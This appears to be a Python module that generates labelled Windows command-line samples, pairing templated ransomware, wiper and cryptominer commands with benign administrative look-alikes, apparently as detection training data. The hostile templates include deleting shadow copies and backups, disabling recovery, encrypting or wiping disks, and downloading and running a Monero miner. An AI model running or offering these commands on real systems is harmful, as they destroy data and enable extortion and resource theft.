"""Backups destroyed, services stopped in bulk, data locked or wiped, machines put to work for strangers, and the honest twins."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("restore-points-destroyed", "Ransomware Activity", "T1490", r"""
vssadmin«.exe|» delete shadows «/all /quiet|/all|/for=C: /all /quiet»
vssadmin resize shadowstorage /for=«C|D»: /on=«C|D»: /maxsize=«401MB|320MB|300MB»
wmic shadowcopy delete /nointeractive
wmic.exe shadowcopy where "ID like '%%'" delete
powershell "Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }"
powershell "Get-CimInstance Win32_ShadowCopy | Remove-CimInstance"
powershell -e ⟦Get-WmiObject Win32_Shadowcopy | ForEach-Object{$_.Delete();}⟧
wbadmin delete «catalog -quiet|systemstatebackup -keepversions:0 -quiet|backup -keepVersions:0 -quiet|systemstatebackup -deleteOldest»
bcdedit /set {«default|current»} recoveryenabled no
bcdedit /set {«default|current»} bootstatuspolicy ignoreallfailures & bcdedit /set {default} recoveryenabled no
cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} bootstatuspolicy ignoreallfailures & wbadmin delete catalog -quiet
diskshadow /s ~f~.txt & echo delete shadows all
echo delete shadows all > ~f~.txt & diskshadow.exe -s ~f~.txt
reagentc /disable & vssadmin delete shadows /all /quiet
schtasks /Change /TN "\Microsoft\Windows\SystemRestore\SR" /Disable & sc config VSS start= disabled
powershell Disable-ComputerRestore -Drive "C:\"; vssadmin delete shadows /all
del /s /f /q «c|d|e»:\*.VHD c:\*.bac c:\*.bak c:\*.wbcat c:\*.bkf c:\Backup*.* c:\backup*.*
vssadmin list shadows & vssadmin delete shadows /all /quiet
powershell "Get-VBRBackup | Remove-VBRBackup -FromDisk -Confirm:$false"
rundll32.exe ~f~.dll,#1 vssadmin delete shadows /all /quiet
""", severity="CRITICAL", weight=1.3)
hostile("services-stopped-before-locking", "Ransomware Activity", "T1490 T1486", r"""
net stop «MSSQLSERVER|SQLWriter|MSExchangeIS|VeeamBackupSvc|"SQL Server (SQLEXPRESS)"|BackupExecJobEngine|MySQL80|AcronisAgent|QBFCService|"Veeam Backup Catalog Data Service"» /y & net stop vss /y
taskkill /f /im sqlservr.exe & taskkill /f /im «outlook|excel|winword|oracle|thebat|mysqld|tbirdconfig».exe & net stop VeeamTransportSvc /y
for %s in (vss sql svc$ memtas mepocs msexchange sophos veeam backup GxVss GxBlr GxFWD) do net stop %s /y
powershell "Get-Service | ? {$_.Name -match 'sql|veeam|backup|exchange|vss'} | Stop-Service -Force"
sc config «SQLTELEMETRY|SQLTELEMETRY$ECWDB2|SQLWriter|SstpSvc» start= disabled & taskkill /IM sqlservr.exe /F
~d~kill.bat & net stop "SQL Server Agent" /y
taskkill /F /IM mspub.exe & taskkill /F /IM mydesktopqos.exe & taskkill /F /IM mydesktopservice.exe
net stop BMR Boot Service /y & net stop NetBackup BMR MTFTP Service /y
wmic process where "name='sqlservr.exe'" call terminate & wmic service where "caption like '%%Veeam%%'" call stopservice
sc stop vmms & sc stop vmcompute & taskkill /f /im vmwp.exe
~d~pskill64.exe -accepteula sqlservr & vssadmin delete shadows /all
""", severity="CRITICAL")
hostile("files-locked-by-program", "Ransomware Activity", "T1486", r"""
~f~.exe «-path C:\ -pass @hex@@hex@|--access-token @hex@@hex@@hex@|-m «local|net|all» -p D:\|-k @hex@ -nomutex|/encrypt /all|-e -d D:\ -ext .@word@|-paths "C:\;D:\"|--mode full --drives all|-size 10 -p \\@host@\Data»
~f~.exe --access-token @hex@@hex@ --no-vm-kill --propagate
rundll32.exe ~f~.dll,«Encrypt|_run@4|start|#1» -pass @hex@
«notepad.exe|"C:\Windows\System32\notepad.exe"» C:\Users\@user@\Desktop\«RESTORE_FILES_INFO|HOW_TO_DECRYPT|README_LOCKED|DECRYPT_INSTRUCTIONS|YOUR_FILES_ARE_ENCRYPTED|readme_for_unlock|RECOVER-@word@-FILES|akira_readme».txt
mshta.exe "C:\Users\@user@\Desktop\«info|HOW_TO_RECOVER|_HELP_INSTRUCTIONS_|DECRYPT».hta"
reg add "HKCU\Control Panel\Desktop" /v Wallpaper /t REG_SZ /d "~d~«bg|wall|ransom|lock».«bmp|jpg»" /f & rundll32.exe user32.dll,UpdatePerUserSystemParameters
reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System" /v legalnoticecaption /d "Your network has been encrypted" /f
manage-bde -on «C|D|E»: -pw -used & manage-bde -protectors -delete C: -type RecoveryPassword
manage-bde -protectors -disable C: & manage-bde -forcerecovery C: & shutdown /r /f /t 0
powershell "Enable-BitLocker -MountPoint 'D:' -PasswordProtector -Password (ConvertTo-SecureString '@pw@' -AsPlainText -Force) -UsedSpaceOnly; Remove-BitLockerKeyProtector"
reg add HKLM\SOFTWARE\Policies\Microsoft\FVE /v RecoveryKeyMessage /d "«write to|contact» @word@@proton.me" /f
~d~dcrypt.exe -encrypt pt1 -p @pw@ & ~d~dcinst.exe -setup
~d~«BestCrypt|bcfmgr|dccon|LockXXX».exe «EncryptDisk C: @pw@|-encrypt pt0 -a -p @pw@|/all»
~d~7z.exe a -mx0 -p@pw@ -sdel D:\locked.7z D:\Daten
~d~WinRAR.exe a -hp@pw@ -df -m0 E:\files.rar E:\*
for /r D:\ %f in (*.docx *.xlsx *.pdf) do ~d~gpg.exe --batch -c --passphrase @pw@ "%f" & del "%f"
~d~psexec.exe @C:\Windows\Temp\comps.txt -c ~f~.exe -d -accepteula
""", severity="CRITICAL", weight=1.4)
hostile("disks-and-files-wiped", "Malware Detected", "T1485", r"""
format «D|E»: /y /q /p:1
cipher /w:C: & del /f /s /q C:\Users\*.*
del /f /s /q «C:\Users|D:\|C:\Windows\System32\drivers»\* & rd /s /q «D:\|C:\Users»
diskpart /s ~f~.txt & echo clean all
echo select disk 0 ^& clean all > ~f~.txt & diskpart /s ~f~.txt
~d~sdelete64.exe -accepteula -p 7 -s -q «D:\*|C:\Users\*|E:\Backup\*»
powershell "Get-Disk | Clear-Disk -RemoveData -RemoveOEM -Confirm:$false"
powershell "Get-ChildItem D:\ -Recurse -Force | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue"
~d~dd.exe if=/dev/zero of=\\.\PhysicalDrive0 bs=1M
~f~.exe «\\.\PhysicalDrive0|/wipe|-overwrite|mbr»
takeown /f C:\Windows\System32 /r /d y & icacls C:\Windows\System32 /grant *S-1-1-0:F /t & rd /s /q C:\Windows\System32
bootsect /nt60 all /mbr & diskpart /s ~f~.txt & shutdown /r /f /t 0
reg delete HKLM\SYSTEM\CurrentControlSet\Services /f & shutdown /r /t 0 /f
bcdedit /delete {current} /f & bcdedit /delete {bootmgr} /f & shutdown -r -f -t 00
~d~«fsutil|rawdisk|eraser|drv».exe file setZeroData offset=0 length=999999999 D:\db\erp.mdf & del D:\db\*.mdf
powershell "Get-ADComputer -Filter * | % { Remove-Item \\$($_.Name)\C$\Users -Recurse -Force }"
""", severity="CRITICAL")
hostile("access-rights-opened-for-locking", "Ransomware Activity", "T1486 T1485", r"""
icacls "«C|D|E»:\*" /grant Everyone:F /T /C /Q
icacls . /grant *S-1-1-0:(F) /T /C /Q & attrib +h . & ~f~.exe
takeown /f "D:\*" /r /d y & icacls D:\* /grant *S-1-1-0:F /t /c /q & ~f~.exe -p D:\
icacls \\@host@\«Daten|C$|Shares» /grant "ANONYMOUS LOGON":F /T /C & ~f~.exe
cacls.exe "\\@host@\c$" /T /E /G Everyone:F & ~f~.exe -m net
fsutil behavior set SymlinkEvaluation R2L:1 & fsutil behavior set SymlinkEvaluation R2R:1 & ~f~.exe
net share «C|D|E»$ /delete & icacls C:\* /grant Everyone:F /T /C /Q
reg add HKLM\SYSTEM\CurrentControlSet\Services\LanmanServer\Parameters /v MaxMpxCt /d 65535 /t REG_DWORD /f & fsutil behavior set SymlinkEvaluation R2L:1
subst X: \\@host@\Data & ~f~.exe --path X:\ & shutdown /s /f /t 30
mountvol «X|Z»: \\?\Volume{@guid@}\ & ~f~.exe -p Z:\
""", severity="CRITICAL")
hostile("coins-mined-by-command", "Cryptomining", "T1496", r"""
~d~«xmrig|~n~|svchost|sysupdate|WmiPrvSE|nssm-srv».exe -o «stratum+tcp://|stratum+ssl://|»«pool.supportxmr.com|pool.hashvault.pro|xmr.2miners.com|gulf.moneroocean.stream|rx.unmineable.com|xmr-eu1.nanopool.org|@pub@»:«3333|443|80|5555|14444|10032» -u 4@hex@@hex@@hex@@hex@@hex@ -p «x|@me@|worker@n@» «-k|--tls|--donate-level=1|-t 4|--cpu-priority 0|-B»
~d~~n~.exe --algo «rx/0|randomx|cn/r|ghostrider|kawpow|etchash» --url @pub@:443 --user @hex@@hex@ --cpu-max-threads-hint=«50|75»
~d~«xmrig|config|start».exe -c ~d~config.json --background
~d~«lolMiner|t-rex|nbminer|gminer|PhoenixMiner|teamredminer|bzminer|SRBMiner-MULTI|cpuminer-opt|minerd|ethminer|claymore|nanominer|wildrig».exe «--algo ETCHASH --pool|-a kawpow -o|--server|-pool|-P» «stratum+tcp://etc.2miners.com:1010|eu1.ethermine.org:4444|stratum+tcp://rvn.2miners.com:6060|daggerhashimoto.eu.nicehash.com:3353» --user «0x|R»@hex@@hex@@hex@
powershell -w hidden -c "iwr https://github.com/xmrig/xmrig/releases/download/v6.2@n@.0/xmrig-6.2@n@.0-msvc-win64.zip -o ~f~.zip; Expand-Archive ~f~.zip ~d~; & ~d~xmrig.exe -o pool.supportxmr.com:443 -u 4@hex@@hex@"
schtasks /create /tn ~n~ /sc onidle /i 3 /tr "~d~xmrig.exe -c config.json" /f
sc create ~n~ binPath= "~d~nssm.exe run xmrig.exe --donate-level 0" start= auto
powercfg /change standby-timeout-ac 0 & start /b ~d~xmrig.exe --url=@pub@:3333
wmic process where "name='xmrig.exe'" call setpriority 64 & ~d~xmrig.exe -k --rig-id=@me@
~d~winring0_setup.exe & sc create WinRing0_1_2_0 binPath= "~d~WinRing0x64.sys" type= kernel & ~d~xmrig.exe
""", weight=1.1)

harmless("restore-points-kept-and-thinned", "Backup Job", r"""
vssadmin list «shadows|writers|shadowstorage|providers»
vssadmin create shadow /for=«C|D»:
vssadmin delete shadows /for=«D|E»: /oldest
vssadmin resize shadowstorage /for=«C|D»: /on=«C|D»: /maxsize=«10%|20GB|15%»
vssadmin delete shadows /shadow={@guid@} /quiet
wbadmin start backup -backupTarget:\\nas\backup -include:C:,D: -allCritical -vssFull -quiet
wbadmin start systemstatebackup -backupTarget:E: -quiet
wbadmin get «versions|status|items -version:03/01/@year@-21:00»
wbadmin delete systemstatebackup -keepVersions:«3|5|10» -quiet
wbadmin delete backup -keepVersions:7 -backupTarget:E: -quiet
diskshadow.exe /s C:\Scripts\«backup|sql_vss|hyperv».dsh
wmic shadowcopy list brief
wmic shadowcopy call create Volume='D:\'
powershell "Checkpoint-Computer -Description 'Before ~v~ update' -RestorePointType MODIFY_SETTINGS"
powershell Get-ComputerRestorePoint
powershell Enable-ComputerRestore -Drive "C:\"
reagentc /«info|enable»
bcdedit /set {current} recoveryenabled yes
"C:\Program Files\Veeam\Backup and Replication\Backup\Veeam.Backup.Manager.exe" startbackupjob owner=[vbsvc] Normal @guid@
powershell "Get-VBRJob -Name 'Daily VMs' | Start-VBRJob"
"C:\Program Files\Macrium\Reflect\ReflectBin.exe" -e -w -full "C:\Backup\image.xml"
forfiles /p E:\SQLBackup /m *.bak /d -14 /c "cmd /c del @path"
robocopy D:\Daten \\nas\backup\Daten /MIR /Z /R:2 /W:5 /LOG:C:\Logs\backup.log
"C:\Program Files\Duplicati 2\Duplicati.CommandLine.exe" backup b2://@company@ D:\Daten --encryption-module=aes --passphrase=@pw@
restic.exe -r sftp:@host@:/backup backup D:\Daten
""", weight=1.3)
harmless("services-restarted-in-maintenance", "Administration", r"""
net stop «MSSQLSERVER|SQLSERVERAGENT|VeeamBackupSvc|Spooler|W3SVC|MSExchangeTransport|"~v~ Service"» /y
net start «MSSQLSERVER|SQLSERVERAGENT|VeeamBackupSvc|Spooler|W3SVC|MSExchangeTransport»
taskkill /f /im «outlook|excel|winword|acrobat|teams|~v~».exe
taskkill /f /im sqlservr.exe & net start MSSQLSERVER
taskkill /IM chrome.exe /F & "~t~ChromeSetup.exe" /silent /install
powershell "Get-Service *sql* | Restart-Service -Force"
powershell "Stop-VM -Name @host@ -Save; Start-VM -Name @host@"
iisreset /«restart|stop|noforce»
shutdown /r /t «60|300|900» /c "Windows updates: please save your work" /d p:2:17
shutdown.exe /s /f /t 0
shutdown /i
wmic process where "name='~v~.exe'" call terminate
sc \\@host@ stop Spooler
net stop wuauserv & net stop cryptSvc & net stop bits & ren C:\Windows\SoftwareDistribution SoftwareDistribution.old & net start wuauserv
tskill 4412
C:\Tools\pskill64.exe -accepteula excel
net stop vss & net start vss & vssadmin list writers
""", weight=1.2)
harmless("disks-encrypted-and-formatted-by-admins", "Administration", r"""
manage-bde -status
manage-bde -on C: -RecoveryPassword -UsedSpaceOnly -SkipHardwareTest
manage-bde -protectors -adbackup C: -id {@guid@}
manage-bde -protectors -disable C: -RebootCount 1
manage-bde -protectors -get C:
manage-bde -unlock E: -RecoveryPassword 123456-234567-345678-456789-567890-678901-789012-890123
powershell "Enable-BitLocker -MountPoint 'C:' -EncryptionMethod XtsAes256 -UsedSpaceOnly -TpmProtector; BackupToAAD-BitLockerKeyProtector"
powershell Suspend-BitLocker -MountPoint "C:" -RebootCount 1
format «E|F»: /fs:«exfat|ntfs» /q /v:«USB|BACKUP|DATA»
diskpart /s C:\Deploy\«partition|uefi».txt
powershell "Get-Disk 1 | Clear-Disk -RemoveData -Confirm:$false; New-Partition -DiskNumber 1 -UseMaximumSize -AssignDriveLetter"
cipher /e /s:"C:\Users\@user@\Documents\Personal"
cipher.exe /x C:\Backup\efs_key
"C:\Program Files\7-Zip\7z.exe" a -t7z -mx9 -p@pw@ -mhe=on D:\Archive\payroll_@n@.7z D:\Payroll\*
"C:\Program Files\WinRAR\Rar.exe" a -hp@pw@ -m5 E:\archive_@n@.rar D:\Projekte
"C:\Program Files\VeraCrypt\VeraCrypt.exe" /v D:\container.hc /l X /q
gpg.exe --batch --yes -r bank@@fqdn@ -e C:\Export\payments_@n@.xml
icacls "D:\Shares\@Word@" /reset /T /C /Q
icacls "C:\Program Files\~v~" /grant "*S-1-5-32-545:(OI)(CI)M" /T /C /Q
takeown /f "C:\Windows.old" /r /d y
rd /s /q C:\Windows.old
notepad.exe C:\Users\@user@\Desktop\«README|TODO|recovery key|notes».txt
notepad "C:\Program Files\~v~\«LICENSE|README|readme_first|Release Notes».txt"
reg add "HKCU\Control Panel\Desktop" /v Wallpaper /t REG_SZ /d "\\~s~\branding\wallpaper.jpg" /f & rundll32.exe user32.dll,UpdatePerUserSystemParameters
fsutil behavior query SymlinkEvaluation
chkdsk D: /f /r /x
""", weight=1.3)
harmless("busy-processors-by-purpose", "Application Event", r"""
"C:\Program Files\HandBrake\HandBrakeCLI.exe" -i D:\Video\in_@n@.mkv -o D:\Video\out.mp4 --encoder x265
ffmpeg.exe -hwaccel cuda -i in.mp4 -threads 8 -preset slow out.mkv
"C:\Program Files\Blender Foundation\Blender 4.0\blender.exe" -b scene.blend -a -t 0
"C:\Program Files (x86)\BOINC\boinc.exe" --redirectio --launched_by_manager
"C:\Program Files (x86)\FAHClient\FAHClient.exe" --cpus=-1
"C:\Program Files\NVIDIA Corporation\NVSMI\nvidia-smi.exe" --query-gpu=utilization.gpu,temperature.gpu --format=csv
python.exe train.py --gpus 1 --batch-size 64 --epochs @n@
"C:\Program Files\Prime95\prime95.exe" -t
C:\Tools\cinebench\Cinebench.exe g_CinebenchCpuXTest=true
ollama.exe runner --model C:\Users\@user@\.ollama\models\blobs\sha256-@hex@ --threads 8
"C:\Program Files\~v~\Simulation\solver.exe" -np 16 -i model.inp -o result.odb
hashcat.exe --benchmark
"C:\Program Files\Docker\Docker\com.docker.backend.exe" -addr tcp://127.0.0.1:3333
powercfg /change standby-timeout-ac 0
dotnet.exe run -c Release --project Pool.Worker --url http://localhost:3333 --user worker@n@ -p x
""")
